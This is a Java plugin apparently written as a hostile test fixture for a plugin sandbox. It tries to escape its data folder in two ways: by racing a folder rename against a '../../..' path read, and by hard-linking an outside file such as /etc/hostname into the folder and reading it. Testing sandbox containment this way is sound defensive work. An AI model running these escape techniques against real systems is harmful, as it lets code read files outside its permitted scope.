package io.prsm.sample.hostile;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

import org.osgi.service.component.annotations.Component;

import io.prsm.api.Plugin;
import io.prsm.api.PluginConfig;
import io.prsm.api.PluginException;
import io.prsm.api.PluginResponse;
import io.prsm.api.PluginType;
import io.prsm.api.SecurityLevel;
import io.prsm.api.Task;
import io.prsm.api.annotation.PrsmPlugin;

/**
 * Hostile fixture, level sandbox (atk5; file APIs, so {@code -Dprsm.bytecode.scan=report}): task
 * {@code race} with {@code dir} (its data folder), {@code name} (a file two levels above it) and
 * {@code tries}: a thread of its own moves {@code data/a/b/c} to {@code data/c} and back in a loop
 * (a move of a folder holding no link, inside the folder: allowed), while the task reads
 * {@code data/a/b/c/../../../NAME}, which names {@code data/NAME} (absent) by its names. When the
 * kernel looks up {@code c} just before it moves, the dot-dots climb from {@code data}. Task
 * {@code hardlink}: a hard link in the data folder to {@code target} (a file outside it), then a read of it.
 */
@PrsmPlugin(id = "races-a-rename-under-dot-dot", version = "1.0.0", type = PluginType.UTILITY,
        level = SecurityLevel.SANDBOX, capabilities = "attack")
@Component(service = Plugin.class)
public final class RacesARenameUnderDotDotPlugin implements Plugin {

    @Override
    public void initialize(PluginConfig config) {
        // the attack waits for a task
    }

    @Override
    public PluginResponse execute(Task task) throws PluginException {
        Map<String, Object> out = new LinkedHashMap<>();
        if (task.type().equals("hardlink")) {
            // a hard link in the data folder to a file outside it: the link's name is inside
            Path link = Paths.get(task.getString("dir", ".")).resolve("hard-" + System.nanoTime());
            try {
                Files.createLink(link, Paths.get(task.getString("target", "/etc/hostname")));
                out.put("createLink", "made " + link);
                out.put("READ", new String(Files.readAllBytes(link), StandardCharsets.UTF_8));
            } catch (Exception refused) {
                out.put("createLink", "refused: " + refused);
            }
            return PluginResponse.success(out);
        }
        Path data = Paths.get(task.getString("dir", "."));
        String name = task.getString("name", "secret.txt");
        long tries = task.getLong("tries", 200_000);
        AtomicBoolean running = new AtomicBoolean(true);
        AtomicLong moves = new AtomicLong();
        AtomicLong refused = new AtomicLong();
        AtomicLong missing = new AtomicLong();
        String read = null;
        Thread mover = null;
        try {
            Path b = data.resolve("a").resolve("b");
            for (Path folder : new Path[] {data.resolve("a"), b, b.resolve("c")}) {
                try {
                    Files.createDirectory(folder);
                } catch (java.nio.file.FileAlreadyExistsException there) {
                    // from an earlier run
                }
            }
            Path inside = b.resolve("c");
            Path above = data.resolve("c");
            mover = new Thread(() -> {
                while (running.get()) {
                    try {
                        Files.move(inside, above);
                        Files.move(above, inside);
                        moves.incrementAndGet();
                    } catch (Exception ignored) {
                        // the other way round next time
                    }
                }
            }, "mover");
            mover.start();
            Path target = data.resolve("a/b/c/../../../" + name);
            long i = 0;
            for (; i < tries && read == null; i++) {
                try {
                    read = new String(Files.readAllBytes(target), StandardCharsets.UTF_8);
                } catch (SecurityException denied) {
                    refused.incrementAndGet();
                } catch (java.io.IOException absent) {
                    missing.incrementAndGet();
                }
            }
            out.put("tries", i);
        } catch (Exception failed) {
            out.put("failed", failed.toString());
        } finally {
            running.set(false);
        }
        out.put("moves", moves.get());
        out.put("refused", refused.get());
        out.put("missing", missing.get());
        out.put("READ", read == null ? "nothing" : read);
        return PluginResponse.success(out);
    }

    @Override
    public void shutdown() {
        // nothing held
    }
}
